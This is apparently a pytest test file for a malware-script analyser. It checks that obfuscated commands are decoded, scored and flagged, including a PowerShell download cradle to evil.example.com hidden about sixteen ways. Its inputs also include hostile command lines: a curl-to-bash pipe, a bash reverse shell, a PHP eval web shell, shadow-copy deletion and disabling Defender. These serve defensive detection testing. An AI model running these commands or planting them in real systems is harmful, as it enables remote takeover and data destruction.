import base64
import gzip
import os
import random
import zlib
from pathlib import Path

import pytest

from workers.script import script

CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example.com/stage2')"
LINK = "hxxp://evil[.]example[.]com/stage2"


def b64(content: bytes | str) -> str:
    return base64.b64encode(content.encode() if isinstance(content, str) else content).decode()


def traits(findings):
    return {trait.name for trait in findings.result.traits}


def links(findings):
    return {each.value for each in findings.result.indicators if each.kind == "url"}


@pytest.mark.parametrize(
    "text",
    [
        f"powershell -enc {b64(CRADLE.encode('utf-16-le'))}",
        f"$x = FromBase64String('{b64(gzip.compress(CRADLE.encode()))}')",
        f"$x = FromBase64String('{b64(zlib.compress(CRADLE.encode())[2:-4])}')",
        f"x = atob('{b64(b64(b64(CRADLE)))}')",
        f"var h = '{CRADLE.encode().hex()}';",
        f"var c = String.fromCharCode({','.join(str(ord(char)) for char in CRADLE)});",
        f"$b = @({', '.join(hex(ord(char)) for char in CRADLE)})",
        "Execute(" + " & ".join(f"Chr({ord(char)})" for char in CRADLE) + ")",
        "& (" + "+".join(f"[char]{ord(char)}" for char in CRADLE) + ")",
        f'Execute StrReverse("{CRADLE[::-1]}")',
        f"var r = '{CRADLE.replace(chr(39), '')[::-1]}';",
        "var u = unescape('" + "".join(f"%{ord(char):02x}" for char in CRADLE) + "');",
        "var e = '" + "".join(f"\\x{ord(char):02x}" for char in CRADLE) + "';",
        "var j = 'I' + 'EX $x.Down' + 'loadString(\"http://evil.exam' + 'ple.com/stage2\")'",
        "I`E`X (New-Object Net.WebClient).Down`load`String('http://evil.example.com/stage2')",
        "('{1}{0}' -f 'loadString(\"http://evil.example.com/stage2\")','IEX $w.Down')",
    ],
)  # fmt: skip
def test_every_way_of_hiding_is_undone(analyse, text):
    """However the command was hidden, its address and what it does come out."""
    findings = analyse(script, text.encode())
    assert LINK in links(findings)
    assert "downloads" in traits(findings)
    assert findings.score >= 40
    assert "evil.example.com" in findings.evidence[0].path.read_text()


def test_what_was_hidden_weighs_more(analyse):
    """The same command counts more from behind Base64 than in the open."""
    opened = analyse(script, CRADLE.encode())
    hidden = analyse(script, f"$a = '{b64(CRADLE)}'".encode())
    assert hidden.score == opened.score + 20
    assert "hidden-commands" in traits(hidden)


def test_a_hidden_program_becomes_a_child(analyse):
    """A program carried as Base64, plain or compressed, is handed on as it is."""
    program = b"MZ" + os.urandom(300)
    for blob in (program, zlib.compress(program)):
        findings = analyse(script, f"$p = '{b64(blob)}'".encode())
        assert [child.path.read_bytes() for child in findings.children] == [program]
        assert "hidden-program" in traits(findings)
        assert findings.score >= 50


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-8-sig", "utf-8", "latin-1"])
def test_text_encodings(analyse, encoding):
    """Scripts are read in the encodings that Windows leaves them in."""
    assert LINK in links(analyse(script, (CRADLE + " # é").encode(encoding)))


@pytest.mark.parametrize(
    ("text", "trait"),
    [
        ("curl -s https://x.example.com/i.sh | sudo bash", "runs-download-in-shell"),
        ("exec(base64.b64decode('aW1wb3J0IG9z'))", "runs-download-in-shell"),
        ("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "reverse-shell"),
        ("<?php eval($_POST['x']); ?>", "runs-request"),
        ("schtasks /create /sc onlogon /tn x /tr y.exe\nvssadmin delete shadows /all", "deletes-backups"),
        ("Set-MpPreference -DisableRealtimeMonitoring $true", "turns-off-protection"),
    ],
)
def test_commands_for_other_systems(analyse, text, trait):
    """One strong trait is enough for a score."""
    findings = analyse(script, text.encode())
    assert trait in traits(findings)
    assert findings.score >= 40


@pytest.mark.parametrize(
    "text",
    [
        "print('hello')\n",
        "function f(x) { return eval(x); }",
        "<html><body><a href='https://www.example.com'>x</a></body></html>",
        "#!/bin/sh\nset -e\ncd /tmp\nmake install\n",
        "",
    ],
)
def test_ordinary_scripts_have_no_score(analyse, text):
    """A script that does nothing remarkable, or one weak thing, is not judged."""
    findings = analyse(script, text.encode())
    assert (findings.score, findings.detections) == (-1, [])


def test_real_scripts_of_the_standard_library(analyse):
    """Python's own sources are decoded without trouble and none looks like malware."""
    for module in (os, base64, gzip, random):
        assert analyse(script, Path(module.__file__)).score < 60


@pytest.mark.parametrize(
    "piece",
    ["A", "1,", "%41", "\\x41", "Chr(1)&", "'a'+", '"a"&', "{0}", "[char]65+", "`a", 'StrReverse("a'],
)  # fmt: skip
def test_hostile_text_ends(analyse, piece):
    """Half a megabyte of anything is decoded in time (the test's time limit would tell)."""
    analyse(script, (piece * (500_000 // len(piece))).encode())


def test_random_bytes(analyse):
    """Bytes that are no text at all are no failure."""
    noise = random.Random(8)
    for _ in range(20):
        analyse(script, noise.randbytes(5000))
